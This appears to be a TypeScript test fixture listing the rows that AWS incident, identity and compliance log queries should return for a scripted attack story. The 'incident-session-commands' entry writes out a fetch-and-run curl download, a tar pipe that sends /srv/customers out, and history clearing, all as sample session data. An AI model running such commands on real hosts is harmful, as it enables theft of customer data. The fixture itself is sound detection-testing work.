import { story } from "../../../sample-data/logs/story";
import { administratorAccess } from "../../../local-aws/organization";
import { arn } from "../../../sample-data/values";
import { backdoorKey, type CaseScene, cast, keyOf, keyPolicy, outsider, trust } from "./earlier-case";

/** Parameters of a saved query, and the rows that it must return. */
export interface ExpectedAnswer {
  /** The day of the attack, or the case three days earlier. */
  readonly when: "attack" | "case";
  readonly given?: Readonly<Record<string, string>>;
  readonly rows: readonly (readonly unknown[])[];
}

/** Locations of the archive in the expected rows. */
export interface Archive {
  readonly logArchive: string;
  readonly trailBucket: string;
  readonly serviceBucket: string;
  readonly trailKey: string;

  /** The day of the attack, `yyyy-MM-dd`. */
  readonly attackDay: string;
}

/** The expected rows of every saved query of incidents, identities and compliance, from the stories. */
export function expectedAnswers(scene: CaseScene, archive: Archive): Record<string, ExpectedAnswer> {
  const { payments: P, website: W, management: M, home } = scene;
  const { attackDay, logArchive } = archive;
  const global = "us-east-1";
  const on = (time: string) => `${attackDay} ${time}.000`;
  const before = (time: string) => `${scene.day} ${time}.000`;
  const { ada, deployer, support, breakGlass, machine, legacy } = cast(scene);
  const arnOf = (caller: typeof ada) => caller.identity.arn ?? "";
  const thiefKey = "AKIABUILDAGENTEXAMPL";
  const thief = arn("iam", "", P, `user/${story.userName}`);
  const address = story.attackerAddress;
  const browser = expect.stringContaining("Mozilla/5.0") as unknown;
  const cli = expect.stringContaining("aws-cli/") as unknown;
  const text = (part: string) => expect.stringContaining(part) as unknown;
  const supportRole = arn("iam", "", W, "role/support");
  const deployerRole = arn("iam", "", P, "role/deployer");
  const insider = arn("sts", "", W, "assumed-role/Admin/mallory");
  const from = "203.0.113.99";
  const trail = "acme-organization-trail";
  const admin = arn("sts", "", M, "assumed-role/Admin/mallory");
  const hop = arnOf(support);
  const office = "198.51.100.20";
  const guesser = arn("iam", "", P, "user/old-admin");

  /** The thief's calls: time, region, service, call, target, error. */
  const theft: [string, string, string, string, string | null, string | null][] = [
    ["02:10:04", home, "sts", "GetCallerIdentity", null, null],
    ["02:10:31", home, "s3", "ListBuckets", null, null],
    ["02:11:02", home, "secretsmanager", "ListSecrets", null, "AccessDenied"],
    ["02:11:09", home, "ec2", "DescribeSnapshots", null, "Client.UnauthorizedOperation"],
    ["02:11:15", global, "organizations", "ListAccounts", null, "AccessDenied"],
    ["02:13:40", global, "iam", "CreateUser", "support-2", null],
    ["02:13:58", global, "iam", "AttachUserPolicy", administratorAccess, null],
    ["02:14:20", global, "iam", "CreateAccessKey", "support-2", null],
    ["02:16:05", home, "ssm", "StartSession", story.instanceId, null],
  ];
  const second = arn("iam", "", P, "user/support-2");
  const secondKey = "AKIASUPPORT2EXAMPLEE";
  const remote = "ap-southeast-1";
  const opened: typeof theft = [
    ["02:31:00", remote, "ec2", "AuthorizeSecurityGroupIngress", "sg-0a1b2c3d", null],
    ["02:31:40", remote, "ec2", "CreateRoute", null, null],
    ["02:33:10", remote, "ec2", "RunInstances", null, null],
  ];
  const service = (name: string) => `${name}.amazonaws.com`;
  const call = ([at, , source, name, target, error]: (typeof theft)[number], who: string) => [
    on(at),
    "call",
    P,
    who,
    [service(source), name, target, error].filter((part) => part !== null).join(" "),
  ];
  const machineId = story.instanceId;
  const sent = String(story.sentBytes);
  const findingId = (where: string, name: string) => arn("securityhub", home, where, `subscription/${name}`);

  return {
    "incident-who-stopped-logging": {
      when: "attack",
      rows: [
        [on("11:31:12"), W, home, insider, from, "StopLogging", "AccessDeniedException", trail, text(trail)],
        [on("11:31:55"), W, home, insider, from, "StopConfigurationRecorder", null, null, text("default")],
        [on("11:32:30"), W, home, insider, from, "DeleteFlowLogs", null, null, text("fl-1")],
        [on("11:33:01"), W, home, insider, from, "DeleteLogGroup", null, "/app/website", text("/app/website")],
      ],
    },
    "incident-logs-deleted-or-shortened": {
      when: "case",
      rows: [
        [before("09:02:00"), W, home, hop, address, "DeleteBucket", "audit-exports", null, null],
        [before("09:09:00"), W, home, hop, address, "PutRetentionPolicy", "/app/website", "1", null],
      ],
    },
    "incident-actions-of-access-key": {
      when: "attack",
      given: { key: thiefKey },
      rows: theft.map(([at, region, source, name, target, error]) => [
        on(at),
        P,
        region,
        thief,
        address,
        story.userAgent,
        service(source),
        name,
        target,
        error,
      ]),
    },
    "incident-origins-of-access-key": {
      when: "attack",
      given: { key: thiefKey },
      rows: [[address, story.userAgent, thief, on("02:10:04"), on("02:16:05"), 9, 3]],
    },
    "incident-touched-by-access-key": {
      when: "attack",
      given: { key: thiefKey },
      rows: [
        [P, service("iam"), "support-2", 0, 2, 0, "CreateAccessKey, CreateUser", on("02:13:40")],
        [P, service("iam"), administratorAccess, 0, 1, 0, "AttachUserPolicy", on("02:13:58")],
        [P, service("ssm"), machineId, 0, 1, 0, "StartSession", on("02:16:05")],
        [P, service("sts"), null, 1, 0, 0, "GetCallerIdentity", on("02:10:04")],
        [P, service("s3"), null, 1, 0, 0, "ListBuckets", on("02:10:31")],
        [P, service("secretsmanager"), null, 0, 0, 1, "ListSecrets", on("02:11:02")],
        [P, service("ec2"), null, 0, 0, 1, "DescribeSnapshots", on("02:11:09")],
        [P, service("organizations"), null, 0, 0, 1, "ListAccounts", on("02:11:15")],
      ],
    },
    "incident-actions-of-principal": {
      when: "case",
      given: { principal: deployerRole },
      rows: [
        [
          before("09:01:00"),
          P,
          home,
          arnOf(deployer),
          keyOf(deployer),
          office,
          service("sts"),
          "AssumeRole",
          supportRole,
          null,
        ],
      ],
    },
    "incident-actions-from-address": {
      when: "attack",
      given: { address: "203.0.113.66" },
      rows: [
        ...theft.map(([at, region, source, name, target, error]) => [
          on(at),
          P,
          region,
          address,
          thief,
          thiefKey,
          service(source),
          name,
          target,
          error,
        ]),
        ...opened.map(([at, region, source, name, target, error]) => [
          on(at),
          P,
          region,
          address,
          second,
          secondKey,
          service(source),
          name,
          target,
          error,
        ]),
      ],
    },
    "incident-roles-behind-access-key": {
      when: "case",
      given: { key: keyOf(support) },
      rows: [
        [1, keyOf(support), keyOf(deployer), before("09:01:00"), P, arnOf(deployer), office, "AssumeRole", supportRole],
        [2, keyOf(deployer), keyOf(ada), before("09:00:00"), P, arnOf(ada), office, "AssumeRole", deployerRole],
      ],
    },
    "incident-sessions-from-access-key": {
      when: "case",
      given: { key: keyOf(ada) },
      rows: [
        [keyOf(deployer), keyOf(ada), before("09:00:00"), P, arnOf(ada), office, "AssumeRole", deployerRole],
        [keyOf(support), keyOf(deployer), before("09:01:00"), P, arnOf(deployer), office, "AssumeRole", supportRole],
        [backdoorKey, keyOf(support), before("09:03:30"), W, hop, address, "CreateAccessKey", "backdoor"],
      ],
    },
    "incident-first-seen-for-principal": {
      when: "attack",
      // The home region and S3 are missing, because they were already known
      given: { since: scene.day.replaceAll("-", "/"), principal: thief },
      rows: [
        ["address", address, on("02:10:04"), 9],
        ["service", service("sts"), on("02:10:04"), 1],
        ["tool", story.userAgent, on("02:10:04"), 9],
        ["service", service("secretsmanager"), on("02:11:02"), 1],
        ["service", service("ec2"), on("02:11:09"), 1],
        ["region", global, on("02:11:15"), 4],
        ["service", service("organizations"), on("02:11:15"), 1],
        ["service", service("iam"), on("02:13:40"), 3],
        ["service", service("ssm"), on("02:16:05"), 1],
      ],
    },
    "incident-refused-bursts": {
      when: "case",
      given: { least: "12" },
      rows: [[before("14:00:00"), P, arnOf(legacy), "198.51.100.40", 12, 1, "GetBucketPolicy"]],
    },
    "incident-changes-around-a-time": {
      when: "attack",
      given: { at: `${attackDay}T02:14:00Z`, minutes: "2" },
      rows: [
        // Two minutes later is 02:16:00
        [on("02:13:40"), P, global, thief, address, service("iam"), "CreateUser", "support-2", null],
        [on("02:13:58"), P, global, thief, address, service("iam"), "AttachUserPolicy", administratorAccess, null],
        [on("02:14:20"), P, global, thief, address, service("iam"), "CreateAccessKey", "support-2", null],
      ],
    },
    "incident-timeline-of-address": {
      when: "attack",
      given: { address, vpc: story.vpcId },
      rows: [
        ...theft.slice(0, 8).map((deed) => call(deed, thief)),
        [on("02:14:58"), "connection", P, machineId, `REJECT ${address} -> ${story.instanceAddress} port 22 bytes 180`],
        [
          on("02:15:40"),
          "connection",
          P,
          machineId,
          `ACCEPT ${address} -> ${story.instanceAddress} port 22 bytes 6104`,
        ],
        ...theft.slice(8).map((deed) => call(deed, thief)),
        [on("02:17:12"), "name lookup", P, machineId, `A ${story.domain}.`],
        [
          on("02:17:14"),
          "connection",
          P,
          machineId,
          `ACCEPT ${story.instanceAddress} -> ${address} port 443 bytes 3212`,
        ],
        [
          on("02:17:15"),
          "connection",
          P,
          machineId,
          `ACCEPT ${address} -> ${story.instanceAddress} port 44120 bytes 1311744`,
        ],
        [
          on("02:18:02"),
          "connection",
          P,
          machineId,
          `ACCEPT ${story.instanceAddress} -> ${address} port 443 bytes ${sent}`,
        ],
        [on("02:21:40"), "archive", logArchive, thief, `REST.GET.BUCKET ${archive.trailBucket} - 403`],
        [
          on("02:21:44"),
          "archive",
          logArchive,
          thief,
          `REST.GET.OBJECT ${archive.trailBucket} ${archive.trailKey} 403`,
        ],
        ...opened.map((deed) => call(deed, second)),
        [on("02:40:00"), "finding", P, "GuardDuty", `HIGH Unusual volume of data to ${address}`],
      ],
    },
    "incident-left-behind": {
      when: "case",
      given: { principal: supportRole },
      rows: [
        [before("09:03:00"), W, global, "CreateUser", "backdoor", text("backdoor"), null],
        [before("09:03:30"), W, global, "CreateAccessKey", "backdoor", text("backdoor"), text(backdoorKey)],
        [before("09:04:00"), W, global, "UpdateAssumeRolePolicy", "support", text(outsider), null],
        [before("09:05:00"), W, global, "PutRolePolicy", "support", text("policyDocument"), null],
        [before("09:07:00"), W, global, "CreateSAMLProvider", "outside", text("outside"), null],
        [before("09:08:00"), W, home, "PutKeyPolicy", "exports", text("kms:*"), null],
      ],
    },
    "incident-destroyed-by-principal": {
      when: "case",
      given: { principal: hop },
      rows: [
        [before("09:02:00"), W, home, service("s3"), "DeleteBucket", "audit-exports", null, text("audit-exports")],
        [before("09:10:00"), W, home, service("config"), "DeleteConfigRule", null, null, text("root-mfa")],
      ],
    },
    "incident-changes-to-resource": {
      when: "attack",
      given: { resource: "sg-0a1b2c3d" },
      rows: [
        [
          on("02:31:00"),
          P,
          remote,
          second,
          address,
          service("ec2"),
          "AuthorizeSecurityGroupIngress",
          null,
          text("0.0.0.0/0"),
          text("0.0.0.0/0"),
        ],
      ],
    },
    "incident-alarms-touched": {
      when: "attack",
      given: { who: address },
      rows: [
        ["iam-policy-changes", P, thief, address, "AttachUserPolicy", 1, 0, on("02:13:58")],
        ["user-credentials-made", P, thief, address, "CreateAccessKey", 1, 0, on("02:14:20")],
        ["machine-shells", P, thief, address, "StartSession", 1, 0, on("02:16:05")],
        ["security-group-changes", P, second, address, "AuthorizeSecurityGroupIngress", 1, 0, on("02:31:00")],
        ["route-table-changes", P, second, address, "CreateRoute", 1, 0, on("02:31:40")],
      ],
    },
    "incident-sessions-opened": {
      when: "attack",
      rows: [[on("02:16:05"), P, home, thief, address, "StartSession", machineId, story.sessionId, null]],
    },
    "incident-session-commands": {
      when: "attack",
      given: { session: story.sessionId },
      rows: [
        "$ sudo -i",
        `# curl -sk https://${story.domain}/agent -o /tmp/.a && chmod +x /tmp/.a`,
        "# tar czf - /srv/customers | /tmp/.a send",
        `\u001b[32m${sent} bytes sent\u001b[0m`,
        "# history -c",
        "# exit",
      ].map((line, i) => [on("02:16:05"), P, thief, address, machineId, story.sessionId, i + 1, line]),
    },
    "incident-machine-credentials-moved": {
      when: "case",
      rows: [
        [
          keyOf(machine),
          P,
          arn("iam", "", P, "role/web"),
          machineId,
          2,
          `198.51.100.30, ${address}`,
          before("13:00:00"),
          before("13:05:00"),
        ],
      ],
    },
    "incident-unusual-rates": {
      when: "attack",
      rows: [
        [
          text("feed"),
          P,
          home,
          service("secretsmanager"),
          "ListSecrets",
          "ApiCallRateInsight",
          null,
          `${attackDay}T02:11:00Z`,
          `${attackDay}T02:15:00Z`,
          0.02,
          4.5,
          thief,
        ],
      ],
    },
    "incident-findings-about": {
      when: "attack",
      given: { about: machineId },
      rows: [
        [
          findingId(P, "exfiltration"),
          P,
          `${attackDay}T02:40:00Z`,
          `${attackDay}T02:40:00Z`,
          "HIGH",
          "NEW",
          `Unusual volume of data to ${address}`,
          arn("ec2", home, P, `instance/${machineId}`),
        ],
      ],
    },
    "incident-application-logs": {
      when: "attack",
      given: { text: "customer", group: "/app/%" },
      rows: [[on("02:18:05"), P, home, "/app/payments", "host-1", "customer export read: /srv/customers"]],
    },
    "identity-console-sign-ins-without-mfa": {
      when: "attack",
      rows: [[on("04:42:30"), P, guesser, "203.0.113.200", browser]],
    },
    "identity-denied-calls-by-principal": {
      when: "case",
      rows: [[P, arnOf(legacy), service("s3"), "GetBucketPolicy", 12, before("14:00:10"), before("14:00:21")]],
    },
    "identity-policy-changes": {
      when: "attack",
      rows: [
        [on("02:14:20"), P, thief, address, "CreateAccessKey", null, text("support-2")],
        [on("02:13:58"), P, thief, address, "AttachUserPolicy", null, text(administratorAccess)],
        [on("02:13:40"), P, thief, address, "CreateUser", null, text("support-2")],
      ],
    },
    "identity-root-activity": {
      when: "attack",
      rows: [
        [on("20:07:12"), W, home, service("s3"), "PutBucketPolicy", "customer-exports", "203.0.113.10", browser, null],
        [on("20:05:00"), W, global, service("signin"), "ConsoleLogin", null, "203.0.113.10", browser, null],
      ],
    },
    "identity-failed-sign-ins": {
      when: "attack",
      given: { least: "5" },
      rows: [[P, "old-admin", "203.0.113.200", 5, 1, on("04:40:01"), on("04:42:30")]],
    },
    "identity-sign-ins": {
      when: "attack",
      // People use roles all day. Only the two others belong to this account's story
      given: { account: W, type: "Root" },
      rows: [[W, "Root", "root", null, "203.0.113.10", 1, on("20:05:00"), on("20:05:00")]],
    },
    "identity-new-administrators": {
      when: "case",
      rows: [[before("09:05:00"), W, hop, address, "PutRolePolicy", "support", null, text("policyDocument")]],
    },
    "identity-new-users-and-keys": {
      when: "case",
      rows: [
        [before("09:03:30"), W, hop, address, "CreateAccessKey", "backdoor", backdoorKey, null],
        [before("09:03:00"), W, hop, address, "CreateUser", "backdoor", null, null],
      ],
    },
    "identity-trust-policy-changes": {
      when: "case",
      rows: [[before("09:04:00"), W, hop, address, "UpdateAssumeRolePolicy", "support", trust, null]],
    },
    "identity-roles-opened-to-accounts": {
      when: "case",
      rows: [[before("09:04:00"), W, hop, "support", outsider, trust]],
    },
    "identity-roles-assumed-across-accounts": {
      when: "case",
      rows: [[W, supportRole, P, office, 1, 0, before("09:01:00"), before("09:01:00")]],
    },
    "identity-long-lived-keys-in-use": {
      when: "case",
      rows: [
        [P, arnOf(ada), keyOf(ada), 1, 1, 1, before("09:00:00"), before("09:00:00")],
        [P, thief, thiefKey, 1, 1, 1, before("08:00:00"), before("08:00:00")],
        [P, arnOf(legacy), keyOf(legacy), 13, 1, 1, before("13:30:00"), before("14:00:21")],
      ],
    },
    "identity-new-principals": {
      when: "case",
      given: { since: scene.day.replaceAll("-", "/"), account: P },
      rows: [
        [P, thief, before("08:00:00"), office, "ListBuckets", 1],
        [P, arnOf(ada), before("09:00:00"), office, "AssumeRole", 1],
        [P, deployerRole, before("09:01:00"), office, "AssumeRole", 1],
        [P, arn("iam", "", P, "role/break-glass"), before("12:00:00"), "198.51.100.7", "DescribeInstances", 2],
        [P, arn("iam", "", P, "role/web"), before("13:00:00"), "198.51.100.30", "ListBuckets", 2],
        [P, arnOf(legacy), before("13:30:00"), "198.51.100.40", "ListBuckets", 13],
      ],
    },
    "identity-mfa-changes": {
      when: "case",
      rows: [[before("09:06:00"), W, hop, address, "DeactivateMFADevice", "ada", arn("iam", "", W, "mfa/ada"), null]],
    },
    "identity-federation-changes": {
      when: "case",
      rows: [
        [before("09:07:00"), W, global, hop, address, service("iam"), "CreateSAMLProvider", null, text("outside")],
      ],
    },
    "identity-key-policy-changes": {
      when: "case",
      rows: [[before("09:08:00"), W, home, hop, address, "PutKeyPolicy", "exports", null, keyPolicy, null]],
    },
    "compliance-root-use-without-mfa": {
      when: "attack",
      rows: [
        [on("20:07:12"), W, service("s3"), "PutBucketPolicy", "203.0.113.10", browser, null],
        [on("20:05:00"), W, service("signin"), "ConsoleLogin", "203.0.113.10", browser, null],
      ],
    },
    "compliance-users-without-mfa": {
      when: "attack",
      rows: [[P, guesser, 1, 1, on("04:42:30")]],
    },
    "compliance-changes-outside-deployment": {
      when: "case",
      given: { role: "support" },
      rows: [
        [M, admin, service("organizations"), "CreateAccount", 1, 0, before("15:00:00"), before("15:00:00")],
        [P, arnOf(breakGlass), service("ec2"), "RebootInstances", 1, 0, before("12:01:00"), before("12:01:00")],
      ],
    },
    "compliance-break-glass-use": {
      when: "case",
      given: { role: "break-glass" },
      rows: [
        [
          P,
          "break-glass",
          "linus",
          keyOf(breakGlass),
          "198.51.100.7",
          before("12:00:00"),
          before("12:01:00"),
          2,
          1,
          "RebootInstances",
        ],
      ],
    },
    "compliance-archive-readers": {
      when: "attack",
      rows: [
        [archive.trailBucket, thief, address, 2, 0, 2, 486, on("02:21:40"), on("02:21:44")],
        [
          archive.serviceBucket,
          arn("sts", "", logArchive, "assumed-role/auditor/ada"),
          "198.51.100.7",
          1,
          0,
          0,
          231,
          on("09:00:12"),
          on("09:00:12"),
        ],
      ],
    },
    "compliance-accounts-joined-or-left": {
      when: "case",
      rows: [[before("15:00:00"), M, admin, "CreateAccount", "shadow", null, null]],
    },
    "compliance-guardrails-changed": {
      when: "case",
      rows: [
        [before("09:10:00"), W, home, hop, address, service("config"), "DeleteConfigRule", null, text("root-mfa")],
      ],
    },
    "compliance-old-tls": {
      when: "case",
      rows: [[P, arnOf(legacy), cli, service("s3"), "TLSv1.1", 1, `${scene.day}T13:30:00Z`]],
    },
    "compliance-config-coverage": {
      when: "case",
      // payments has a snapshot of its home region
      rows: [
        [M, global, 1, before("15:00:00")],
        [W, home, 5, before("09:10:00")],
        [W, global, 6, before("09:07:00")],
      ],
    },
    "compliance-unencrypted-resources": {
      when: "case",
      rows: [[P, home, "AWS::EC2::Volume", "vol-1", null, `${scene.day}T06:00:00Z`]],
    },
    "compliance-resources-without-tag": {
      when: "case",
      given: { type: "AWS::EC2::%", tag: "owner" },
      rows: [[P, home, "AWS::EC2::Volume", "vol-1", arn("ec2", home, P, "volume/vol-1")]],
    },
    "compliance-resource-drift": {
      when: "attack",
      given: { account: P, region: home, resource: story.securityGroupId },
      rows: [
        [`${attackDay}T01:00:00Z`, "OK", "AWS::EC2::SecurityGroup", null, text("10.0.0.0/8")],
        [`${attackDay}T02:15:20Z`, "OK", "AWS::EC2::SecurityGroup", text("10.0.0.0/8"), text("0.0.0.0/0")],
      ],
    },
    "compliance-findings-open-longest": {
      when: "attack",
      rows: [
        [
          findingId(W, "unpatched"),
          W,
          "MEDIUM",
          "An instance lacks patches",
          text("i-00c0ffee00c0ffee0"),
          text("T00:00:00Z"),
          40,
        ],
        [findingId(P, "exfiltration"), P, "HIGH", text("Unusual volume"), text(machineId), `${attackDay}T02:40:00Z`, 0],
      ],
    },
  };
}
